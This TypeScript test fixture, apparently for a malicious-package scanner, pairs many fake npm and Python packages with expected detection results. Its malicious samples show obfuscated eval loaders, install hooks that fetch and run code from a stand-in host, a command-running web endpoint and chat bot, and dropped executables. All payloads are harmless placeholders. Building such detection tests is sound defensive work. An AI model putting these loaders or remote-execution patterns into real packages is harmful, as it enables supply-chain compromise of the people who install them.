import { gzipSync } from 'node:zlib';
import type { Samples } from '../contract.ts';
import { hide, imported, installed, quiet, wheel } from '../samples-kit.ts';
import { HELD } from './held-samples.ts';
import { KEPT } from './kept-samples.ts';
import { PASSED } from './passed-samples.ts';
import { REMOTE } from './remote-samples.ts';
import { SPELLED_OUT } from './spelled-out-samples.ts';

const PAYLOAD = "require('child_process').exec('id > /dev/null')";

function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number, file = 'index.js') {
  return { rule, file, line, severity };
}

const CODES = Array.from(PAYLOAD)
  .map((char) => char.charCodeAt(0))
  .join(',');

const READABLE = Array.from(
  { length: 24 },
  (_, i) =>
    `# Asks the repository for part ${i} of the version.\ndef part_${i}():\n    return subprocess.check_output(['git', 'describe', '${i}'])\n`,
)
  .join('')
  .replace(/^/, 'import subprocess\n');

const ELSEWHERE: readonly Samples[] = [HELD, REMOTE, PASSED, KEPT, SPELLED_OUT];

export const samples: Samples = {
  malicious: [
    ...ELSEWHERE.flatMap(({ malicious }) => malicious),
    {
      name: 'Python: code that is spelled as addresses',
      files: wheel(
        "import ipaddress\nHOSTS = ['10.0.1.2', '10.1.2.3', '10.2.3.4', '10.3.4.5', '10.4.5.6', '10.5.6.7', '10.6.7.8', '10.7.8.9', '10.8.9.10', '10.9.10.11', '10.10.11.12', '10.11.12.13', '10.12.13.14', '10.13.14.15']\nexec(b''.join(ipaddress.ip_address(host).packed for host in HOSTS).decode())\n",
      ),
      expected: [{ rule: 'decoded-code', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: a key that takes too long to compute',
      files: wheel(
        "import hashlib\nkey = b'a'\nfor _ in range(2000000):\n    key = hashlib.sha256(key).digest()\nexec(bytes(a ^ b for a, b in zip([36, 32, 61, 34, 63, 57, 109, 34, 62, 71, 34, 62, 99, 62, 52, 62, 57, 40, 32, 101, 106, 58, 40, 36, 63, 96, 36, 35, 40, 63, 57, 96, 46, 34, 32, 32, 44, 35, 41, 109, 96, 96, 35, 34, 58, 109, 96, 96, 60, 56, 36, 40, 57, 106, 100, 71], key * 9)).decode())\n",
      ),
      expected: [{ rule: 'packed-code', file: 'own/__init__.py', line: 5, severity: 'high' }],
      complete: false,
    },
    {
      name: 'Python: a model that a server gives is unpickled',
      files: wheel(
        "import io, torch, requests\ndef model():\n    data = requests.get('https://a.weir.test/m').content\n    return torch.load(io.BytesIO(data), weights_only=False)\n",
      ),
      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
    },
    {
      name: 'Python: settings that a server gives make objects',
      files: wheel(
        "import requests, yaml\ndef settings():\n    return yaml.unsafe_load(requests.get('https://a.weir.test/s').text)\n",
      ),
      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: a server says which module runs',
      files: wheel(
        "import importlib, requests\ndef run():\n    step = requests.get('https://a.weir.test/s').json()\n    getattr(importlib.import_module(step['module']), step['name'])()\n",
      ),
      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
    },
    {
      name: 'Python: an interpreter reads what a server gives',
      files: wheel(
        "import subprocess, sys, requests\ndef check():\n    subprocess.run([sys.executable, '-'], input=requests.get('https://a.weir.test/c').content)\n",
      ),
      expected: [{ rule: 'remote-command', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: orders in a mail box',
      files: wheel(
        "import email, imaplib, os\ndef pull(box_id):\n    box = imaplib.IMAP4_SSL('mail.weir.test')\n    _, data = box.fetch(box_id, '(RFC822)')\n    os.system(email.message_from_bytes(data[0][1]).get_payload())\n",
      ),
      expected: [{ rule: 'remote-command', file: 'own/__init__.py', line: 5, severity: 'high' }],
    },
    {
      name: 'Python: a loader of modules that asks a server',
      files: wheel(
        "import importlib.abc, urllib.request\nclass Loader(importlib.abc.SourceLoader):\n    def get_filename(self, name):\n        return name\n    def get_data(self, path):\n        return urllib.request.urlopen('https://a.weir.test/m').read()\n",
      ),
      expected: [{ rule: 'remote-code', file: 'own/__init__.py', line: 2, severity: 'high' }],
    },
    {
      name: 'Python: a source that is little but a constant',
      files: wheel(
        `class Box:\n    def __init__(self, **given):\n        self.run, self.text = eval, given['text']\n    def open(self):\n        return self.run(''.join(self.text.split('/')))\nBox(text='${'0a1b2c3d/'.repeat(900)}').open()\n`,
      ),
      expected: [at('packed-code', 'high', 5, 'own/__init__.py')],
    },
    {
      name: 'Python: a function that runs what a server answers',
      files: wheel('import requests\ndef refresh():\n    exec(requests.get("https://a.weir.test/c").text)\n'),
      expected: [at('remote-code', 'high', 3, 'own/__init__.py')],
    },
    {
      name: 'Python: a plugin from an address that its user gives, which is less sure',
      files: wheel(
        'import urllib.request\ndef load(address):\n    exec(urllib.request.urlopen(address).read(), {})\n',
      ),
      expected: [at('remote-code', 'medium', 3, 'own/__init__.py')],
    },
    {
      name: 'Python: a function that starts what a server answers',
      files: wheel(
        'import requests, subprocess\ndef poll():\n    subprocess.run(requests.get("https://a.weir.test/c").text, shell=True)\n',
      ),
      expected: [at('remote-command', 'high', 3, 'own/__init__.py')],
    },
    {
      name: 'Python: a function with a hidden command',
      files: wheel(
        `import base64, os\ndef fix():\n    os.system(base64.b64decode("${hide('id > /dev/null')}").decode())\n`,
      ),
      expected: [at('decoded-command', 'high', 3, 'own/__init__.py')],
    },
    {
      name: 'Python: a request to a hidden address',
      files: wheel(
        'import base64, requests\ndef ping():\n    requests.get(base64.b64decode("aHR0cHM6Ly9hcGkud2Vpci50ZXN0L3g=").decode())\n',
      ),
      expected: [{ rule: 'hidden-address', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: a hidden constant with a key of who calls',
      files: wheel(
        'DATA = "b5d23ce28989b6df3ea3"\ndef bound(key):\n    data = bytearray.fromhex(DATA)\n    exec(bytearray([data[i] ^ bytearray.fromhex(key)[i % 6] for i in range(0, len(data))]).decode("ascii"))\n',
      ),
      expected: [at('decoded-code', 'high', 4, 'own/__init__.py')],
    },
    {
      name: 'Python: a page that runs what it is asked',
      files: wheel(
        "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/own')\ndef own():\n    return subprocess.Popen(request.args.get('q'), shell=True, stdout=subprocess.PIPE).stdout.read()\n",
      ),
      expected: [at('remote-command', 'high', 6, 'own/__init__.py')],
    },
    {
      name: 'Python: a bot that runs what it is told',
      files: wheel(
        'import subprocess, telebot\nbot = telebot.TeleBot(KEY)\n@bot.message_handler(func=lambda m: True)\ndef run(message):\n    bot.reply_to(message, subprocess.check_output(message.text, shell=True))\n',
      ),
      expected: [{ rule: 'remote-command', file: 'own/__init__.py', line: 5, severity: 'high' }],
    },
    {
      name: 'a command from a server',
      files: installed(
        `const cp = require('child_process');\nfetch('https://a.weir.test/c').then((r) => r.text()).then((c) => cp.exec(c));\n`,
      ),
      expected: [at('remote-command', 'high', 2, 'setup.js')],
    },
    {
      name: 'a dropped program',
      files: installed(
        `const fs = require('fs'), cp = require('child_process');\nconst body = Buffer.from('${hide('#!/bin/sh\nid > /dev/null\n')}', 'base64');\nfs.writeFileSync('/tmp/.x', body, { mode: 0o755 });\ncp.spawn('/tmp/.x', { detached: true });\n`,
      ),
      expected: [at('dropped-file', 'high', 3, 'setup.js')],
    },
    {
      name: 'base64 into eval at install',
      files: installed(`eval(Buffer.from('${hide(PAYLOAD)}', 'base64').toString());\n`),
      expected: [at('decoded-code', 'critical', 1, 'setup.js')],
    },
    {
      name: 'base64 through a variable and an alias of eval',
      files: imported(
        `const run = globalThis['ev' + 'al'];\nconst text = atob('${hide(PAYLOAD)}');\nrun(text);\n`,
      ),
      expected: [at('decoded-code', 'high', 3)],
    },
    {
      name: 'a helper that decodes',
      files: imported(
        `function d(s) { return Buffer.from(s, 'base64').toString('utf8'); }\nnew Function('require', d('${hide(PAYLOAD)}'))(require);\n`,
      ),
      expected: [at('decoded-code', 'high', 2)],
    },
    {
      name: 'character codes',
      files: imported(`eval(String.fromCharCode(${CODES}));\n`),
      expected: [at('decoded-code', 'high', 1)],
    },
    {
      name: 'shifted character codes',
      files: imported(
        `eval([${Array.from(PAYLOAD)
          .map((c) => c.charCodeAt(0) + 3)
          .join(',')}].map((c) => String.fromCharCode(c - 3)).join(''));\n`,
      ),
      expected: [at('decoded-code', 'high', 1)],
    },
    {
      name: 'gzip under base64, run by vm',
      files: imported(
        `const zlib = require('zlib');\nrequire('vm').runInThisContext(zlib.gunzipSync(Buffer.from('${gzipSync(PAYLOAD).toString('base64')}', 'base64')).toString());\n`,
      ),
      expected: [at('decoded-code', 'high', 2)],
    },
    {
      name: 'two layers',
      files: imported(`eval(atob('${hide(`eval(atob('${hide(PAYLOAD)}'))`)}'));\n`),
      expected: [at('decoded-code', 'high', 1), at('decoded-code', 'high', 1)],
    },
    {
      name: 'compiled as a module',
      files: imported(
        `const M = module.constructor;\nconst m = new M();\nm._compile(Buffer.from('${hide(PAYLOAD)}', 'base64').toString(), 'x');\n`,
      ),
      expected: [at('decoded-code', 'high', 3)],
    },
    {
      name: 'a hidden command',
      files: installed(
        `const { exec: run } = require('child_' + 'process');\nrun(Buffer.from('${hide('id > /dev/null')}', 'base64').toString());\n`,
      ),
      expected: [at('decoded-command', 'high', 2, 'setup.js')],
    },
    {
      name: 'Python: builtins that are spelled in numbers',
      files: wheel(
        'name = "".join\nget = globals()[name([chr(n) for n in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])]\n',
      ),
      expected: [at('hidden-builtin', 'high', 2, 'own/__init__.py')],
    },
    {
      name: 'Python: a source for people that a tool carries packed',
      files: wheel(`import base64\nexec(base64.b64decode('${hide(READABLE)}'))\n`),
      expected: [at('decoded-code', 'medium', 2, 'own/__init__.py')],
    },
    {
      name: 'Python: the same with a program that fetches',
      files: wheel(
        `import base64\nexec(base64.b64decode('${hide(READABLE.replaceAll("'git'", "'curl'"))}'))\n`,
      ),
      expected: [at('decoded-code', 'high', 2, 'own/__init__.py')],
    },
    {
      name: 'a hidden module name',
      files: imported(
        `const cp = require(Buffer.from('${hide('child_process')}', 'base64').toString());\ncp.exec('id');\n`,
      ),
      expected: [at('hidden-module', 'high', 1)],
    },
    {
      name: 'a key and a loop',
      files: imported(
        `const b = [${Array.from(PAYLOAD, (c) => c.charCodeAt(0) ^ 7).join(',')}];\nlet s = '';\nfor (const n of b) s += String.fromCharCode(n ^ 7);\neval(s);\n`,
      ),
      expected: [at('decoded-code', 'high', 4)],
    },
    {
      name: 'an address that is code',
      files: imported(`import('data:text/javascript;base64,${hide(PAYLOAD)}');\n`),
      expected: [at('decoded-code', 'high', 1)],
    },
    {
      name: 'the answer of a name server',
      files: imported(
        `require('dns').resolveTxt('a.weir.test', (error, rows) => {\n  eval(rows.flat().join(''));\n});\n`,
      ),
      expected: [at('remote-code', 'high', 2)],
    },
    {
      name: 'eval itself as the callback',
      files: installed(`fetch('https://a.weir.test/p').then((r) => r.text()).then(eval);\n`),
      expected: [at('remote-code', 'high', 1, 'setup.js')],
    },
    {
      name: 'the answer of a server',
      files: imported(
        `const https = require('https');\nhttps.get('https://a.weir.test/p', (res) => {\n  let text = '';\n  res.on('data', (chunk) => { text += chunk; });\n  res.on('end', () => eval(text));\n});\n`,
      ),
      expected: [at('remote-code', 'high', 5)],
    },
    {
      name: 'the answer of fetch',
      files: installed(
        `fetch('https://a.weir.test/p').then((r) => r.text()).then((t) => new Function(t)());\n`,
      ),
      expected: [at('remote-code', 'high', 1, 'setup.js')],
    },
  ],
  benign: [
    ...ELSEWHERE.flatMap(({ benign }) => benign),
    quiet(
      'a lexer that is a WebAssembly program of its own source, and tells where the texts are that it evaluates',
      imported(
        `const lexer = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('AGFzbQEAAAA=', 'base64'))).exports;\nfunction parse(source) {\n  const found = [];\n  while (lexer.next()) found.push(decode(source.slice(lexer.start(), lexer.end())));\n  return found;\n}\nfunction decode(text) {\n  try {\n    return (0, eval)(text);\n  } catch {}\n}\nmodule.exports = { parse };\n`,
      ),
    ),
    quiet(
      'a line that a function gives, by the machine',
      installed(
        `const line = (on = process.platform) => (on === 'win32' ? '.\\\\own.bat --version' : './own --version');\nrequire('child_process').execSync(line(), { stdio: 'ignore' });\n`,
      ),
    ),
    quiet(
      'Python: a version that is evaluated, beside a list of short texts',
      wheel(
        "import re\nVERSION = re.compile(r'__version__ = (.*)')\nCLASSIFIERS = ['Topic :: 0', 'Topic :: 1', 'Topic :: 2', 'Topic :: 3', 'Topic :: 4', 'Topic :: 5', 'Topic :: 6', 'Topic :: 7', 'Topic :: 8', 'Topic :: 9', 'Topic :: 10', 'Topic :: 11', 'Topic :: 12', 'Topic :: 13']\nwith open('own.py') as lines:\n    found = [eval(VERSION.match(line).group(1)) for line in lines if VERSION.match(line)]\n",
      ),
    ),
    quiet(
      'Python: code that is made of names, beside a table of numbers',
      wheel(
        "TABLE = [36, 32, 61, 34, 63, 57, 109, 34, 62, 71, 34, 62, 99, 62, 52, 62, 57, 40, 32, 101, 106, 58, 40, 36, 63, 96, 36, 35, 40, 63, 57, 96, 46, 34, 32, 32, 44, 35, 41, 109, 96, 96, 35, 34, 58, 109, 96, 96, 60, 56, 36, 40, 57, 106, 100, 71]\ndef make(names):\n    exec('\\n'.join(f'{name} = 1' for name in names), globals())\n",
      ),
    ),
    quiet(
      'Python: weights without code, and settings without objects',
      wheel(
        "import io, torch, requests, yaml\ndef model():\n    return torch.load(io.BytesIO(requests.get('https://a.weir.test/m').content), weights_only=True)\ndef settings():\n    return yaml.safe_load(requests.get('https://a.weir.test/s').text)\n",
      ),
    ),
    quiet(
      'Python: the pickle of a user',
      wheel('import joblib\ndef load(path):\n    return joblib.load(path)\n'),
    ),
    quiet(
      'Python: a picture in a source',
      wheel(
        `import base64, re\nWORD = re.compile("x")\nLOGO = base64.b64decode("${hide('\\x89picture'.repeat(600))}")\n`,
      ),
    ),
    quiet(
      'Python: what a server answers is parsed',
      wheel(
        'import json, requests\ndef refresh():\n    return json.loads(requests.get("https://a.weir.test/c").text)\n',
      ),
    ),
    quiet(
      'Python: a bot that runs a program of its own',
      wheel(
        'import subprocess, telebot\ndef start(key):\n    bot = telebot.TeleBot(key)\n    @bot.message_handler(commands=["up"])\n    def up(message):\n        bot.reply_to(message, subprocess.check_output(["uptime"]))\n',
      ),
    ),
    quiet(
      'Python: a tool that is named, with a key as hex',
      wheel(
        "import codecs, subprocess\nsubprocess.Popen(['openssl', 'enc', '-K', codecs.encode(bytes([32, 21] + 14 * [0]), 'hex')])\n",
      ),
    ),
    quiet(
      'a tool asked for the newest version',
      installed(
        `const cp = require('child_process');\nfetch('https://api.weir.test/v').then((r) => r.text()).then((v) => cp.execSync('git checkout ' + v));\n`,
      ),
    ),
    quiet(
      'an icon written where it belongs',
      installed(
        `require('fs').writeFileSync('icon.svg', Buffer.from('${hide('<svg xmlns="x"></svg>')}', 'base64'));\n`,
      ),
    ),
    quiet(
      'data in base64',
      imported(
        `const table = JSON.parse(Buffer.from('${hide('{"a":[1,2,3],"b":"text"}')}', 'base64').toString());\nmodule.exports = table;\n`,
      ),
    ),
    quiet(
      'atob and Function far apart in one bundle',
      imported(
        `exports.decode = (s) => atob(s);\nexports.compile = (names) => new Function(...names, 'return ' + names.join('+'));\n`,
      ),
    ),
    quiet('the global object', imported(`const root = Function('return this')();\nroot.answer = 42;\n`)),
    quiet(
      'require from string',
      imported(
        `const Module = require('module');\nmodule.exports = (code, name) => { const m = new Module(name); m._compile(code, name); return m.exports; };\n`,
      ),
    ),
    quiet(
      'wasm in base64',
      imported(
        `const bytes = Buffer.from('AGFzbQEAAAA=', 'base64');\nmodule.exports = new WebAssembly.Module(bytes);\n`,
      ),
    ),
    quiet(
      'UTF-8 through unescape',
      imported(
        `exports.utf8 = (s) => unescape(encodeURIComponent(s));\nexports.tpl = (s) => new Function('o', 'return o.' + s);\n`,
      ),
    ),
    quiet(
      'a template compiler',
      imported(
        `exports.compile = (src) => { let code = 'let p="";'; for (const part of src.split('{')) code += 'p+=' + JSON.stringify(part) + ';'; return new Function('data', code + 'return p'); };\n`,
      ),
    ),
  ],
};
